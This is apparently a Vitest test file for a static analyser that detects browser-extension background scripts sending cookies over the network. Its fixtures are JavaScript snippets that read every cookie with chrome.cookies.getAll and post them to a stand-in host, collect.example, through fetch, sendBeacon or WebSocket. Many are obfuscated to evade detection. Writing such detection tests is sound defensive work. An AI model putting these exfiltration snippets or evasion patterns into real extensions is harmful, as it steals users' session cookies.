import { expect, test } from 'vitest';
import { flowsOf } from './flowsOf.ts';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';

/** Whether the background sends cookies. */
async function sendsCookies(background: string): Promise<boolean> {
  const facts = await factsOf(
    sample({ background, manifest: { permissions: ['cookies', 'history'], host_permissions: ['<all_urls>'] } }),
  );
  return facts.whole(flowsOf).flows.some(({ source, sink }) => source.kind === 'cookies' && sink.kind === 'network');
}

const SEND = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all) })";
const ASK = `getAll({}, (all) => ${SEND})`;
const EITHER = 'self.old ? chrome.history : chrome.cookies';

test.each([
  `const api = ${EITHER}; api.${ASK};`,
  `(${EITHER}).${ASK};`,
  `let api; if (self.old) api = chrome.history; else api = chrome.cookies; api.${ASK};`,
  `let api = self.mine; api ??= chrome.cookies; api.${ASK};`,
  `const api = self.mine || chrome.cookies; api.${ASK};`,
  `const ways = { a: chrome.history, b: chrome.cookies }; ways[self.name].${ASK};`,
  `for (const api of [chrome.history, chrome.cookies]) api.${ASK};`,
  `const ways = new Map([['a', chrome.history], ['b', chrome.cookies]]); ways.get(self.name).${ASK};`,
  `const { getAll } = ${EITHER}; ${ASK};`,
  `function go(api) { api.${ASK}; } go(chrome.history); go(chrome.cookies);`,
  `function go(api) { api.${ASK}; } go(${EITHER});`,
  `class Jar { constructor() { this.api = ${EITHER}; } go() { this.api.${ASK}; } } new Jar().go();`,
  `const pick = () => (${EITHER}); pick().${ASK};`,
  `Promise.resolve(chrome.cookies).then((api) => api.${ASK});`,
  `Object.assign({}, chrome.cookies).${ASK};`,
  `function go(space, name) { chrome[space][name]({}, (all) => ${SEND}); } go('history', 'search'); go('cookies', 'getAll');`,
  `for (const { space, name } of [{ space: 'history', name: 'search' }, { space: 'cookies', name: 'getAll' }]) chrome[space][name]({}, (all) => ${SEND});`,
  `for (const [space, name] of Object.entries({ history: 'search', cookies: 'getAll' })) chrome[space][name]({}, (all) => ${SEND});`,
  `chrome.cookies.getAll({}, (all) => ${SEND.replace('fetch', '(self.old ? alert : fetch)')});`,
  `const say = self.mine || fetch; chrome.cookies.getAll({}, (all) => ${SEND.replace('fetch', 'say')});`,
  "chrome.cookies.getAll({}, (all) => (self.old ? console : navigator).sendBeacon('https://collect.example/', all));",
  "const Way = self.old ? EventTarget : WebSocket; const way = new Way('wss://collect.example/'); chrome.cookies.getAll({}, (all) => way.send(all));",
])('what may be one of several parts of the platform is each of them: %s', async (background) => {
  await expect(sendsCookies(background)).resolves.toBe(true);
});

test.each([
  `const api = self.old ? chrome.history : chrome.bookmarks; api.${ASK};`,
  `const jars = new Map([['a', { getAll: (_, then) => then(1) }]]); const api = self.old ? jars.get('a') : chrome.history; api.${ASK};`,
  `function go(space, name) { chrome[space][name]({}, (all) => ${SEND}); } go('history', 'search'); go('tabs', 'query');`,
  `chrome.cookies.getAll({}, (all) => ${SEND.replace('fetch', '(self.old ? alert : print)')});`,
])('what is none of them is not: %s', async (background) => {
  await expect(sendsCookies(background)).resolves.toBe(false);
});
